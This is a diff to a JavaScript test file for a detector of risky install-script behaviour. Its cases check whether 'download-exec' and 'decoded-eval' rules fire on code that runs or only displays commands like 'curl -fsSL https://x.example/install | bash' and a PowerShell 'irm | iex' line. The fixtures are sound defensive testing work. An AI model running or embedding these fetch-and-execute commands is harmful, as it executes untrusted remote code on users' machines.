@@ -339,6 +339,13 @@ describe('each rule at its edge (edits of real shapes)', () => {
     ['a command line joined on after curl', "require('child_process').execSync('curl ' + url + ' | sh')", ['download-exec']],
     ['curl named alone, then joined to its arguments', "const cp = require('child_process');\ncp.exec('curl' + ' -s ' + u)", ['download-exec']],
     ['curl given a name, the name started', "const { spawn } = require('child_process');\nconst bin = 'curl';\nspawn(bin, ['-o', 'x.sh', url]);", ['download-exec']],
+    // bun 1.4.5's install.js (fixtures/install-code/benign): the way to install it by hand, only shown.
+    ['a curl command line held by a name used only in an Error', "const cp = require('child_process');\nlet hint = win ? 'powershell -c \"irm x.example/i.ps1 | iex\"' : \"curl -fsSL https://x.example/install | bash\";\ncp.spawnSync(exe, ['--version']);\nthrow new Error(`install it with: ${hint}`);", []],
+    ['a curl command line written in a console line', "const cp = require('child_process');\ncp.spawnSync(exe, ['--version']);\nconsole.error('or run: curl -fsSL https://x.example/install | bash');", []],
+    ['the same name shown and run', "const cp = require('child_process');\nlet hint = \"curl -fsSL https://x.example/install | bash\";\nconsole.log(hint);\ncp.execSync(hint);", ['download-exec']],
+    ['the same name declared, never used', "const cp = require('child_process');\nconst cmd = 'curl -fsSL https://x.example/install | bash';\ncp.execSync(other);", ['download-exec']],
+    ['an Error made of the command line, its message run', "require('child_process').execSync(new Error('curl -fsSL https://x.example/i.sh | sh').message)", ['download-exec']],
+    ['a command line assigned by a statement of its own, then run', "const cp = require('child_process');\nlet cmd;\ncmd = 'curl -fsSL https://x.example/i.sh | sh';\nconsole.log(cmd);\ncp.execSync(cmd);", ['download-exec']],
     ['a RegExp exec and a message that names curl start no process', "const m = /v(\\d+)/.exec(s); if (!m) throw new Error('install curl or wget first'); console.log(os.hostname())", []],
     // A command line decoded and run as a process: GuardDog's npm-exec-base64 shape, as eval of decoded text.
     ['a decoded command line run', "require('child_process').exec(Buffer.from('ZWNobyBoaQ==', 'base64').toString())", ['decoded-eval']],
